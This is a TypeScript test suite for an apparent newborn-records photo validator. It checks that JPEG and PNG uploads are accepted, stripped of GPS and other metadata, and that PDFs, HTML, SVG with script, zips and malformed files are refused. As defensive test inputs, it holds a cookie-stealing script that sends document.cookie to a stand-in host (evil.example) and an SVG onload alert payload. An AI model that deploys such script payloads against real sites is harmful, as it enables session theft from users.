import fc from 'fast-check';
import { maxPhotoBase64 } from '@yibao/shared/contracts/newborn';
import { testSeed } from '@yibao/shared/rules/testing/seed';
import {
  base64,
  exifSegment,
  jpeg,
  jpegSegment,
  png,
  pngChunk,
} from '../../../tests/support/pictures';
import { ServiceError } from '../../lib/errors';
import { judgePhoto, maxPhotoBytes } from './judge';

const judge = (bytes: Buffer) => judgePhoto(base64(bytes));

/** @returns code and words of a refusal */
function refusalOf(contentBase64: string): { code: string; message: string; field?: string } {
  try {
    judgePhoto(contentBase64);
  } catch (error) {
    if (!(error instanceof ServiceError)) throw error;
    const { code, message, field } = error;
    return { code, message, ...(field === undefined ? {} : { field }) };
  }
  throw new Error('was not refused');
}

describe('what is a photograph', () => {
  test('a JPEG, with its size', () => {
    expect(judge(jpeg())).toMatchObject({ mediaType: 'image/jpeg', widthPx: 24, heightPx: 16 });
    expect(judge(jpeg({ widthPx: 12_000, heightPx: 3_333 }))).toMatchObject({ widthPx: 12_000 });
    expect(judge(jpeg({ widthPx: 8_000, heightPx: 5_000 }))).toMatchObject({ heightPx: 5_000 });
  });

  test('a PNG, with its size', () => {
    expect(judge(png())).toMatchObject({ mediaType: 'image/png', widthPx: 16, heightPx: 12 });
  });

  test('one without metadata stays as it is, byte for byte', () => {
    expect(base64(judge(jpeg()).content)).toBe(base64(jpeg()));
    expect(base64(judge(png()).content)).toBe(base64(png()));
  });

  test('a progressive one with several scans and restarts in them', () => {
    const scan = Buffer.concat([
      jpegSegment(0xda, '\x01\x01\x00\x00\x3f\x00'),
      Buffer.from([0x11, 0xff, 0x00, 0x22, 0xff, 0xd0, 0x33, 0xff, 0xd7]),
    ]);
    const bytes = jpeg();
    const end = bytes.length - 2;
    const whole = Buffer.concat([bytes.subarray(0, end), scan, bytes.subarray(end)]);
    whole[whole.indexOf(Buffer.from([0xff, 0xc0])) + 1] = 0xc2;
    expect(base64(judge(whole).content)).toBe(base64(whole));
  });
});

describe('what is left out', () => {
  const secret = 'GPS 33.95N 116.79E';
  const holds = (content: Uint8Array) => Buffer.from(content).includes(secret);

  test.each<[string, Buffer]>([
    ['Exif', exifSegment(1, secret)],
    ['XMP', jpegSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${secret}`)],
    ['a colour profile or a second picture', jpegSegment(0xe2, `MPF\0${secret}`)],
    ['Photoshop data', jpegSegment(0xed, secret)],
    ['APP15', jpegSegment(0xef, secret)],
    ['a comment', jpegSegment(0xfe, secret)],
    ['a JFXX thumbnail', jpegSegment(0xe0, `JFXX\0${secret}`)],
  ])('%s of a JPEG', (_name, segment) => {
    const dirty = jpeg({ segments: [segment] });
    expect(holds(dirty)).toBe(true);
    expect(base64(judge(dirty).content)).toBe(base64(jpeg()));
  });

  test('a thumbnail within the JFIF header', () => {
    const header = Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\x02\x03', 'latin1');
    const bytes = jpeg().subarray(20);
    const start = Buffer.from([0xff, 0xd8]);
    const thumbnail = jpegSegment(0xe0, Buffer.concat([header, Buffer.from(secret)]));
    const { content } = judge(Buffer.concat([start, thumbnail, bytes]));
    expect(holds(content)).toBe(false);
    expect(base64(content)).toBe(base64(jpeg()));
  });

  test.each([
    ['a JPEG', jpeg({ trailer: Buffer.from(secret) }), jpeg()],
    ['a PNG', png({ trailer: Buffer.from(`PK\x03\x04${secret}`) }), png()],
  ])('what follows the end of %s', (_name, dirty, clean) => {
    expect(base64(judge(dirty).content)).toBe(base64(clean));
  });

  test.each(['tEXt', 'zTXt', 'iTXt', 'eXIf', 'tIME', 'iCCP', 'acTL', 'prVt'])(
    '%s of a PNG',
    (type) => {
      const dirty = png({ chunks: [pngChunk(type, secret)] });
      expect(base64(judge(dirty).content)).toBe(base64(png()));
    },
  );

  test('the colours of a PNG stay', () => {
    const coloured = png({ chunks: [pngChunk('gAMA', '\0\0\xb1\x8f'), pngChunk('sRGB', '\0')] });
    expect(base64(judge(coloured).content)).toBe(base64(coloured));
  });
});

describe('what a JPEG needs besides its picture', () => {
  const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
  const values = (length: number) => Buffer.alloc(length, 7);
  const quantization = Buffer.concat([Buffer.from([0x00]), values(64)]);
  const wideQuantization = Buffer.concat([Buffer.from([0x13]), values(128)]);
  const counts = Buffer.from([0, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  const huffman = Buffer.concat([Buffer.from([0x11]), counts, values(3)]);
  const manyCodes = Buffer.concat([Buffer.from([0x11]), Buffer.alloc(16, 17), values(272)]);
  const adobe = (transform = 1) =>
    Buffer.concat([Buffer.from('Adobe\0\x64\0\0\0\0', 'latin1'), Buffer.from([transform])]);
  const behind = (payload: Buffer) => Buffer.concat([payload, Buffer.from(script)]);
  /** The picture with another payload in its segment of that marker. */
  const changed = (code: number, change: (payload: Buffer) => Buffer) => {
    const bytes = jpeg();
    const at = bytes.indexOf(Buffer.from([0xff, code]));
    const end = at + 2 + bytes.readUInt16BE(at + 2);
    const segment = jpegSegment(code, change(bytes.subarray(at + 4, end)));
    return Buffer.concat([bytes.subarray(0, at), segment, bytes.subarray(end)]);
  };

  test.each<[string, Buffer]>([
    ['a quantization table', jpegSegment(0xdb, quantization)],
    ['two of them', jpegSegment(0xdb, Buffer.concat([quantization, wideQuantization]))],
    ['a Huffman table', jpegSegment(0xc4, huffman)],
    ['two of them', jpegSegment(0xc4, Buffer.concat([huffman, huffman]))],
    ['a restart interval', jpegSegment(0xdd, '\0\x04')],
    ['the colours of Adobe', jpegSegment(0xee, adobe())],
  ])('%s stays', (_what, segment) => {
    const whole = jpeg({ segments: [segment] });
    const { content } = judge(whole);
    expect(base64(content)).toBe(base64(whole));
    expect(base64(judge(Buffer.from(content)).content)).toBe(base64(content));
  });

  test.each<[string, Buffer]>([
    ['words instead of a quantization table', jpegSegment(0xdb, script)],
    ['words behind a quantization table', jpegSegment(0xdb, behind(quantization))],
    ['half a quantization table', jpegSegment(0xdb, quantization.subarray(0, 40))],
    ['no quantization table', jpegSegment(0xdb, '')],
    ['words instead of a Huffman table', jpegSegment(0xc4, script)],
    ['words behind a Huffman table', jpegSegment(0xc4, behind(huffman))],
    ['half the head of a Huffman table', jpegSegment(0xc4, huffman.subarray(0, 9))],
    ['a Huffman table without its last value', jpegSegment(0xc4, huffman.subarray(0, -1))],
    ['a Huffman table of more than 256 codes', jpegSegment(0xc4, manyCodes)],
    ['no Huffman table', jpegSegment(0xc4, '')],
    ['words instead of a restart interval', jpegSegment(0xdd, script)],
    ['words behind a restart interval', jpegSegment(0xdd, `\0\x04${script}`)],
  ])('%s: refused', (_what, segment) => {
    expect(refusalOf(base64(jpeg({ segments: [segment] })))).toMatchObject({
      code: 'photo_refused',
      message: expect.stringContaining('损坏') as string,
    });
  });

  test.each<[string, Buffer]>([
    ['words behind the frame', changed(0xc0, behind)],
    ['a frame of 20 components', changed(0xc0, (payload) => Buffer.concat([payload, values(51)]))],
    ['a component of no size', changed(0xc0, (p) => Buffer.from(p).fill(0, 7, 8))],
    ['a component of a fifth table', changed(0xc0, (p) => Buffer.from(p).fill(4, 8, 9))],
    ['words behind the head of the scan', changed(0xda, behind)],
    ['a scan of five components', changed(0xda, () => Buffer.from([5, ...values(13)]))],
    ['a scan of none', changed(0xda, () => Buffer.from([0, 0, 0x3f, 0]))],
  ])('%s: refused', (_what, bytes) => {
    expect(refusalOf(base64(bytes)).code).toBe('photo_refused');
  });

  test.each<[string, Buffer]>([
    ['words', jpegSegment(0xee, script)],
    ['words behind the colours of Adobe', jpegSegment(0xee, behind(adobe()))],
    ['half of them', jpegSegment(0xee, adobe().subarray(0, 11))],
    ['a transform that is none', jpegSegment(0xee, adobe(3))],
    ['another name', jpegSegment(0xee, Buffer.concat([Buffer.from('Evil!'), Buffer.alloc(7)]))],
  ])('APP14 with %s is left out', (_what, segment) => {
    expect(base64(judge(jpeg({ segments: [segment] })).content)).toBe(base64(jpeg()));
  });

  test('the colours of Adobe are kept once, and come first', () => {
    const [first, second] = [jpegSegment(0xee, adobe(1)), jpegSegment(0xee, adobe(0))];
    const segments = [jpegSegment(0xee, script), jpegSegment(0xdd, '\0\x04'), first, second];
    expect(base64(judge(jpeg({ segments })).content)).toBe(
      base64(jpeg({ segments: [first, jpegSegment(0xdd, '\0\x04')] })),
    );
  });
});

describe('which way up', () => {
  test.each([3, 6, 8])(
    'orientation %i is kept, and nothing else of the Exif data',
    (orientation) => {
      const { content, widthPx, heightPx } = judge(jpeg({ segments: [exifSegment(orientation)] }));
      const bytes = Buffer.from(content);
      expect(bytes.includes('GPS')).toBe(false);
      const onItsSide = orientation >= 5;
      expect([widthPx, heightPx]).toEqual(onItsSide ? [16, 24] : [24, 16]);
      // what was written is read the same, and cleaning it again changes nothing
      expect(judge(bytes)).toEqual({ mediaType: 'image/jpeg', content, widthPx, heightPx });
    },
  );

  test.each<[string, Buffer]>([
    ['an impossible value', exifSegment(9)],
    ['a directory beyond the end', jpegSegment(0xe1, 'Exif\0\0II*\0\xff\xff\xff\x7f')],
    ['entries beyond the end', jpegSegment(0xe1, 'Exif\0\0MM\0*\0\0\0\x08\xff\xff\0\0')],
    ['no byte order', jpegSegment(0xe1, 'Exif\0\0XX*\0\0\0\0\x08')],
    ['nothing', jpegSegment(0xe1, 'Exif\0\0')],
  ])('%s in it means upright', (_name, segment) => {
    expect(base64(judge(jpeg({ segments: [segment] })).content)).toBe(base64(jpeg()));
  });
});

describe('what is no photograph', () => {
  const text = (words: string) => base64(Buffer.from(words, 'latin1'));
  const zip = 'PK\x03\x04\x14\0\0\0\x08\0';
  const cut = (bytes: Buffer, share: number) =>
    base64(bytes.subarray(0, Math.floor(bytes.length * share)));
  const withFrame = (code: number) => {
    const bytes = jpeg();
    bytes[bytes.indexOf(Buffer.from([0xff, 0xc0])) + 1] = code;
    return base64(bytes);
  };
  const wrongSum = png();
  wrongSum[29]! ^= 1;

  test.each<[string, string, RegExp]>([
    ['nothing', '', /空文件/],
    ['a PDF', text('%PDF-1.7\n%\xe2\xe3'), /PDF/],
    ['a PDF behind some blanks', text('\n\n%PDF-1.4'), /PDF/],
    ['an SVG with script', text('<svg onload="alert(1)"><script>1</script></svg>'), /网页或代码/],
    ['an SVG with a declaration', text('\xef\xbb\xbf<?xml version="1.0"?><svg/>'), /网页或代码/],
    ['HTML that is called jpg', text('  <!doctype html><script>1</script>'), /网页或代码/],
    ['a GIF', text('GIF89a\x01\0\x01\0'), /GIF/],
    ['a GIF with script', text('GIF89a/*<script>alert(1)</script>*/'), /GIF/],
    ['a WebP', text('RIFF\x24\0\0\0WEBPVP8 '), /WebP/],
    ['a HEIC', text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), /HEIC/],
    ['a BMP', text('BM\x36\0\0\0\0\0'), /BMP/],
    ['a TIFF', text('II*\0\x08\0\0\0'), /TIFF/],
    ['a zip or a Word document', text(zip), /压缩包/],
    ['a program', text('\x7fELF\x02\x01\x01'), /认不出/],
    ['a video', text('\0\0\0\x18ftypmp42'), /认不出/],
    ['the first three bytes of a JPEG', base64(jpeg().subarray(0, 3)), /没有传完整/],
    ['half a JPEG', cut(jpeg(), 0.5), /没有传完整/],
    ['a JPEG without its end', base64(jpeg().subarray(0, -2)), /没有传完整/],
    ['a JPEG that ends with something else', cut(jpeg(), 0.97) + 'AAAA', /没有传完整/],
    [
      'a JPEG that is a PDF behind its first bytes',
      text('\xff\xd8\xff%PDF-1.7'),
      /没有传完整|损坏/,
    ],
    ['a JPEG without a picture', text('\xff\xd8\xff\xd9'), /损坏/],
    ['a JPEG of no width', base64(jpeg({ widthPx: 0 })), /损坏/],
    ['a lossless JPEG', withFrame(0xc3), /少见/],
    ['an arithmetic JPEG', withFrame(0xc9), /少见/],
    ['half a PNG', cut(png(), 0.7), /没有传完整/],
    ['a PNG without its end', base64(png().subarray(0, -12)), /没有传完整/],
    ['a PNG with a wrong checksum', base64(wrongSum), /损坏/],
    [
      'a PNG with an unknown part it needs',
      base64(png({ chunks: [pngChunk('ABCD', '')] })),
      /损坏/,
    ],
    ['a PNG of two headers', base64(png({ chunks: [pngChunk('IHDR', '')] })), /损坏/],
    ['a JPEG wider than 12 000', base64(jpeg({ widthPx: 12_001 })), /12000 像素/],
    ['a JPEG of 40 008 000 pixels', base64(jpeg({ widthPx: 8_000, heightPx: 5_001 })), /4000 万/],
    ['a PNG of 144 million', base64(png({ widthPx: 12_000, heightPx: 12_000 })), /4000 万像素/],
    ['a PNG of 65 000 × 65 000', base64(png({ widthPx: 65_000, heightPx: 65_000 })), /12000 像素/],
    ['a PNG of 2³¹ pixels', base64(png({ widthPx: 2 ** 31, heightPx: 1 })), /12000 像素/],
  ])('%s', (_name, contentBase64, words) => {
    const refusal = refusalOf(contentBase64);
    expect(refusal).toMatchObject({ code: 'photo_refused', field: 'contentBase64' });
    expect(refusal.message).toMatch(words);
  });

  test('more than 2 MB, though the contract lets it through', () => {
    const room = maxPhotoBytes - jpeg().length;
    const comment = jpegSegment(0xfe, Buffer.alloc(65_533 - 400));
    const segments = Array.from({ length: 32 }, () => comment);
    const rest = Buffer.alloc(maxPhotoBytes + 1 - jpeg({ segments }).length);
    const large = base64(jpeg({ segments, trailer: rest }));
    expect(room).toBeGreaterThan(0);
    expect(large.length).toBeLessThanOrEqual(maxPhotoBase64);
    expect(refusalOf(large).message).toMatch(/超过 2 MB/);
    const fits = base64(jpeg({ segments, trailer: rest.subarray(1) }));
    expect(judgePhoto(fits).content.length).toBe(jpeg().length);
  });

  const whole = base64(jpeg());
  test.each([
    ['a data URL', `data:image/jpeg;base64,${whole}`],
    ['line breaks', `${whole.slice(0, 76)}\n${whole.slice(76)}`],
    ['a missing sign', whole.slice(0, -1)],
    ['the web alphabet', whole.replace('/', '_')],
    ['a padding in the middle', `AA==${whole}`],
    ['words', '这不是照片'],
  ])('base64 with %s', (_name, contentBase64) => {
    expect(refusalOf(contentBase64)).toMatchObject({ code: 'bad_input', field: 'contentBase64' });
  });
});

test('whatever comes is either a clean photograph or refused with a sentence', () => {
  const seeds = [jpeg({ segments: [exifSegment(6)] }), png({ chunks: [pngChunk('tEXt', 'a')] })];
  const change = fc.record({
    at: fc.double({ min: 0, max: 1, maxExcluded: true, noNaN: true }),
    byte: fc.nat(255),
    keep: fc.double({ min: 0.2, max: 1, noNaN: true }),
  });
  fc.assert(
    fc.property(fc.constantFrom(...seeds), fc.array(change, { maxLength: 4 }), (seed, changes) => {
      let bytes = Buffer.from(seed);
      for (const { at, byte, keep } of changes) {
        bytes[Math.floor(at * bytes.length)] = byte;
        if (keep < 0.5) bytes = bytes.subarray(0, Math.floor(keep * bytes.length));
      }
      try {
        const first = judge(bytes);
        expect(judge(Buffer.from(first.content))).toEqual(first);
      } catch (error) {
        expect(error).toBeInstanceOf(ServiceError);
      }
    }),
    { numRuns: 400, seed: testSeed() },
  );
});
